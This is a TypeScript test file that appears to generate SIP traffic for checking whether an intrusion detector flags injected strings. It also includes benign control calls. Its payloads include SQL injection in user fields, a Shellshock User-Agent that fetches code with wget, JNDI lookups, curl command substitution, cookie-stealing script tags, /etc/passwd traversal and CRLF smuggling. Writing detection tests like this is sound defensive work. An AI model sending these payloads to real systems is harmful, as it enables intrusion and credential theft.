import { requestOf } from "../support/sip-actors.ts";
import { challenge, type SipRequest, sipResponse } from "../support/sip-builder.ts";
import type { Endpoint } from "../support/wire.ts";
import { Call, wholeCall } from "./call.ts";
import { Account, digestOf, nonceOf } from "./digest.ts";
import { outside6, PBX, PBX6, phone, STRANGER } from "./lab.ts";
import type { Case, Scene } from "./scene.ts";

const KIND = "strings";
const WANTED = "alert malform|inject|exploit|sql|shell|script|traversal|format <=3";

// In pieces, so that no tool takes them for a template.
const JNDI = ["$", "{jndi:ldap://192.0.2.99/a}"].join("");
const HIDDEN_JNDI = ["$", "{", "$", "{lower:j}ndi:rmi://192.0.2.99/a}"].join("");

type Edit = readonly [string | RegExp, string];

/** Requests of a stranger, one a second, each with one edit; the server answers 401, 404 or 400. */
function edited(
  scene: Scene,
  from: Endpoint,
  to: Endpoint,
  method: string,
  edits: readonly Edit[],
): void {
  for (const [i, [what, by]] of edits.entries()) {
    const request = requestOf(scene, from, to, method, "100", { userAgent: "Yealink" });
    const text = request.text.replace(what, by);
    scene.send(from, to, text);
    // RFC 3261 8.2.6.2: From, Call-ID and CSeq of the answer are those of the request.
    const answer = echoed(scene, request, i % 3 === 2 ? 404 : 401).replace(what, by);
    scene.send(to, from, answer, 0.01);
    scene.wait(1);
  }
  scene.wait(20);
}

function echoed(scene: Scene, request: SipRequest, status: number): string {
  const headers = status === 401 ? [challenge(nonceOf(scene))] : [];
  return sipResponse(request, status, { toTag: scene.hex(8), headers });
}

/** A call whose caller has this display name, or any edit of its INVITE. */
function named(scene: Scene, edit: Edit, to = "202"): void {
  const dress = (text: string) => (text.startsWith("INVITE") ? text.replace(...edit) : text);
  wholeCall(new Call(scene, phone(1), phone(2), { to, dress }), 2);
  scene.wait(1);
}

export const STRINGS: readonly Case[] = [
  {
    name: "strings_sql_in_users",
    expect: WANTED,
    kind: KIND,
    what: "SQL in the user parts of From and To, percent-encoded and plain, in a display name and in the digest's username",
    make: (scene) => {
      edited(scene, STRANGER, PBX, "REGISTER", [
        ["From: <sip:100@", "From: <sip:100'%20OR%20'1'='1@"],
        ["To: <sip:100@", "To: <sip:1';DROP%20TABLE%20subscriber;--@"],
        ["From: <sip:100@", 'From: "a\' UNION SELECT password FROM users -- " <sip:100@'],
      ]);
      const digest = digestOf({
        user: "x' OR 1=1 -- ",
        password: "x",
        nonce: "5f3a",
        method: "REGISTER",
        uri: `sip:${PBX.ip}`,
      });
      edited(scene, STRANGER, PBX, "REGISTER", [
        ["User-Agent:", `Authorization: ${digest}\r\nUser-Agent:`],
      ]);
    },
  },
  {
    name: "strings_shell_and_jndi_ipv6",
    expect: WANTED,
    kind: KIND,
    what: "Shellshock in the User-Agent, jndi in Contact and, split up, in the User-Agent, command substitution in From (IPv6)",
    make: (scene) =>
      edited(scene, outside6(66), PBX6, "OPTIONS", [
        ["User-Agent: Yealink", "User-Agent: () { :;}; /bin/bash -c 'wget http://192.0.2.99/x'"],
        [/Contact: <sip:100@/, `Contact: <sip:${JNDI}@`],
        ["User-Agent: Yealink", `User-Agent: ${HIDDEN_JNDI}`],
        ["From: <sip:100@", 'From: "`id`;$(curl 192.0.2.99)" <sip:100@'],
      ]),
  },
  {
    name: "strings_script_and_paths",
    expect: WANTED,
    kind: KIND,
    what: "script tags in the display name and User-Agent for the web page of the PBX, path traversal in the Request-URI, format strings in the Call-ID",
    make: (scene) =>
      edited(scene, STRANGER, PBX, "INVITE", [
        ["From: <sip:100@", 'From: "<script src=//192.0.2.99/x.js></script>" <sip:100@'],
        ["User-Agent: Yealink", "User-Agent: <img src=x onerror=alert(document.cookie)>"],
        [/^INVITE sip:100@/, "INVITE sip:../../../../etc/passwd@"],
        ["Call-ID: ", "Call-ID: %n%n%n%s%s%x%x"],
      ]),
  },
  {
    name: "strings_sql_without_blanks",
    expect: WANTED,
    kind: KIND,
    what: "a comparison of quoted texts without a blank in From",
    make: (scene) =>
      edited(scene, STRANGER, PBX, "REGISTER", [
        ["From: <sip:100@", "From: \"x'or'1'='1\" <sip:100@"],
      ]),
  },
  {
    name: "strings_behind_padding",
    expect: WANTED,
    kind: KIND,
    what: "eight kilobytes of headers that say nothing before a User-Agent with SQL in it",
    make: (scene) => {
      const padding = `X-Note: ${"n".repeat(1000)}\r\n`.repeat(8);
      edited(scene, STRANGER, PBX, "OPTIONS", [
        ["User-Agent: Yealink", `${padding}User-Agent: 1 union/**/select password from users`],
      ]);
    },
  },
  {
    name: "strings_escaped_line_ends",
    expect: WANTED,
    kind: KIND,
    what: "a header field behind escaped ends of line in the Request-URI, and the escapes escaped",
    make: (scene) =>
      edited(scene, STRANGER, PBX, "OPTIONS", [
        [/^OPTIONS sip:100@/, "OPTIONS sip:100%250d%250aContact:%2520x@"],
      ]),
  },
  {
    name: "names_of_real_people",
    expect: "quiet",
    kind: KIND,
    what: "O'Brien, D'Angelo & Sons; Union Select Ltd. -- \"Drop-In Table\", umlauts in UTF-8, a semicolon in quotes: calls of ordinary people",
    make: (scene) => {
      const names = [
        "O'Brien",
        "D'Angelo & Sons",
        "Union Select Ltd. -- Drop-In Table",
        "M\xc3\xbcller; J\xc3\xb6rg",
        "Script Writers <Office>",
        "100% Wolle",
      ];
      for (const name of names) named(scene, ["From: <sip:", `From: "${name}" <sip:`]);
    },
  },
  {
    name: "escaped_and_star_codes",
    expect: "quiet",
    kind: KIND,
    what: "star codes, %23 for #, a plus sign, tel parameters and an e-mail like user: what phones dial",
    make: (scene) => {
      for (const to of [
        "*98",
        "%2370%23",
        "+4930123;phone-context=example.com",
        "anne.o'neil",
        "0049%2030",
      ]) {
        named(scene, ["Max-Forwards: 70", "Max-Forwards: 69"], to);
      }
    },
  },
  {
    name: "odd_but_legal_headers",
    expect: "quiet",
    kind: KIND,
    what: "User-Agents with braces, brackets and quotes, a folded Subject with words of SQL, compact headers: RFC 3261 allows it",
    make: (scene) => {
      new Account(scene, phone(1), PBX, "201").login({
        userAgent: 'FPBX-16.0.40(18.9) {build "7"} (Linux; x86_64) [select]',
      });
      scene.wait(1);
      named(scene, [
        "Max-Forwards: 70",
        "Max-Forwards: 70\r\ns: select the\r\n offers from our table where prices drop",
      ]);
      named(scene, ["From: ", "f: "]);
      named(scene, [
        "Max-Forwards: 70",
        'Max-Forwards: 70\r\nAlert-Info: <http://pbx/ring.wav?x=1&y=2>;info="a;b"',
      ]);
    },
  },
];
